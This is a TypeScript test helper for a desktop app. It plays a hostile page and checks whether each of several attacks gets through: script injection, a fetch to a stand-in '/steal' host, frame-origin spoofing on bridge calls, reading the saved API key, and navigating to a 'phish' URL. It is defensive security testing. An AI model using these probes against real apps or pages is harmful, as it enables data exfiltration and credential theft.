import { expect } from 'vitest';
import { testKey } from './api-server.ts';
import type { DesktopApp } from './launch-desktop.ts';

/** Tries the attacks of a hostile page and names each that works. On the shim, an unsafe window does not even open. */
export async function findSecurityBreaches({ page, evaluate }: DesktopApp): Promise<string[]> {
  const tries: Readonly<Record<string, () => Promise<boolean>>> = {
    async 'runs a script that stands in the page'() {
      await page.evaluate(() => {
        const script = document.createElement('script');
        try {
          script.text = 'globalThis.breached = true';
          document.body.append(script);
        } catch {
          // Trusted Types refuse it.
        }
      });
      return page.evaluate(() => Reflect.get(globalThis, 'breached') === true);
    },
    async 'sends something to another host'() {
      await page.evaluate(() => fetch('https://outside.invalid/steal', { mode: 'no-cors' }).catch(() => {}));
      return (await evaluate(({ records }) => records.outsideRequests)).includes('https://outside.invalid/steal');
    },
    async 'is answered in another frame’s name'() {
      const answer = await evaluate(({ shimState }) =>
        shimState.invoke('batch.read', { url: 'https://outside.invalid/', parent: null }, {}),
      );
      return (answer as { ok: boolean }).ok;
    },
    async 'is answered in the name of a frame below'() {
      const answer = await evaluate(({ shimState }) =>
        shimState.invoke('batch.read', { url: 'app://bundle/', parent: {} }, {}),
      );
      return (answer as { ok: boolean }).ok;
    },
    async 'opens a window'() {
      await page.evaluate(() => void window.open('https://outside.invalid/'));
      const decisions = () => evaluate(({ records }) => records.windowOpens);
      await expect.poll(decisions, { message: 'the app was asked' }).not.toEqual([]);
      return (await decisions()).some(({ action }) => action !== 'deny');
    },
    async 'learns the key'() {
      const key = `rakhim_test_${'k'.repeat(33)}`;
      const answer = await page.evaluate(async (typed) => {
        const bridge = Reflect.get(globalThis, 'rakhimDesktop') as {
          call(name: string, request: object): Promise<unknown>;
        };
        await bridge.call('key.save', { key: typed });
        const status = JSON.stringify(await bridge.call('key.status', {}));
        await bridge.call('key.remove', {});
        return status;
      }, key);
      return answer.includes(key);
    },
    async 'asks the service without its pass'() {
      await evaluate(
        ({ shimState }, key) => shimState.invoke('key.save', { url: 'app://bundle/', parent: null }, { key }),
        testKey,
      );
      const status = await page.evaluate(async () => (await fetch('/api/v1/usage')).status);
      await evaluate(({ shimState }) => shimState.invoke('key.remove', { url: 'app://bundle/', parent: null }, {}));
      return status === 200;
    },
    // Last, for a page that has left is not the app's any more.
    async 'leaves the bundle'() {
      const outside = 'https://outside.invalid/phish';
      const decided = Promise.race([
        page.waitForEvent('requestfailed', (request) => request.url() === outside),
        page.waitForEvent('framenavigated', (frame) => frame.url() === outside),
      ]);
      await page.evaluate((address) => {
        location.href = address;
      }, outside);
      await decided;
      return page.url() === outside;
    },
  };
  const found: string[] = [];
  for (const [name, attempt] of Object.entries(tries)) {
    if (await attempt()) {
      found.push(name);
    }
  }
  return found;
}
